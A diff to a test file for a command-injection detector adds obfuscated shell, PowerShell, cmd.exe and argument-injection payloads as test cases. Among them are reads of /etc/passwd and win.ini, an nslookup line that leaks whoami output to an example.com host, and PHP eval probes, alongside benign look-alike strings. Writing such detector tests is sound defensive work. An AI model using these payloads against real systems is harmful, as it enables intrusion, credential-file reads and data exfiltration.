@@ -17,13 +17,26 @@ describe('detectCommandInjection', () => {
     ['1; w -i', 'cmdi:semicolon+recon'],
     ['x | WHOAMI', 'cmdi:pipe+recon'],
     [';/???/c?t /???/p??s??', 'cmdi:semicolon+glob'],
+    [';/b[i]n/c[a]t /e[t]c/p[a]sswd', 'cmdi:semicolon+glob'],
+    [';$0 -c id', 'cmdi:semicolon+shell'],
+    ['; Start-Sleep 5', 'cmdi:semicolon+delay'],
+    ['$(Start-Sleep 5)', 'cmdi:subst+delay'],
+    ['; Get-ChildItem C:\\', 'cmdi:semicolon+read'],
+    ['& powershell "(Get-Content C:\\Windows\\win.ini)"', 'cmdi:amp+shell'],
+    ['& %SystemRoot%\\system32\\whoami.exe', 'cmdi:amp+recon'],
+    ["; $(printf 'whoami')", 'cmdi:subst+echo'],
+    ['$(IFS=_;cmd="cat_/etc/passwd";$cmd)', 'cmdi:subst+ifs'],
+    ['& set x=who&& set y=ami&& call %x%%y%', 'cmdi:and+assembled'],
+    ["& for /f %i in ('whoami') do nslookup %i.example.com", 'cmdi:amp+win'],
+    ['x -oProxyCommand=id', 'cmdi:argument+ssh'],
+    ['--checkpoint=1 --checkpoint-action=exec=sh shell.sh', 'cmdi:argument+tar'],
   ])('%s is %s', (value, fingerprint) => {
     const m = detectCommandInjection(value);
     expect(m?.fingerprint).toBe(fingerprint);
     expect(m!.confidence).toBeGreaterThanOrEqual(0.7);
   });
 
-  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami'])('undoes word splitting in %s', (value) => {
+  it.each([";w'h'o'am'i", ';w"h"oami', ';wh\\oami', '& w^h^o^a^m^i', ';who$@ami', '& w"h"o"a"m"i', ';$u whoami'])('undoes word splitting in %s', (value) => {
     const m = detectCommandInjection(value);
     expect(m?.fingerprint).toMatch(/\+quoted$/);
     expect(m?.reason).toContain('whoami');
@@ -39,6 +52,9 @@ describe('detectCommandInjection', () => {
     ["process.mainModule.require('child_process').execSync('whoami')", 'cmdi:code+node'],
     ["__import__('os').system('id')", 'cmdi:code+python'],
     ["Runtime.getRuntime().exec(\"id\")", 'cmdi:code+java'],
+    [";exit(md5('probe'));//", 'cmdi:code+eval-proof'],
+    ["'.die(sha1('probe')).'", 'cmdi:code+eval-proof'],
+    ['data:;base64,PD9waHAgZWNobyAxOyA/Pg==', 'cmdi:code+php-data'],
   ])('finds code injection that runs the OS in %s (%s)', (value, fingerprint) => {
     const m = detectCommandInjection(value);
     expect(m?.fingerprint).toBe(fingerprint);
@@ -81,6 +97,15 @@ describe('detectCommandInjection', () => {
     ';w>-##;tq*fD',
     '}xywL|SH',
     'zRe6Ihf`/Ep_5r?',
+    '&|6I`$0<p',
+    '9-pe5`s`$0',
+    '; $total cost',
+    'use a for loop; for /files see docs',
+    '-o output.txt',
+    '--exec-mode=fast',
+    'Print md5(value) in the log',
+    'data:image/png;base64,iVBORw0KGgo=',
+    '[a] and [b]; /api/[id]/items',
   ])('leaves %s alone', (value) => {
     expect(detectCommandInjection(value)).toBeUndefined();
   });
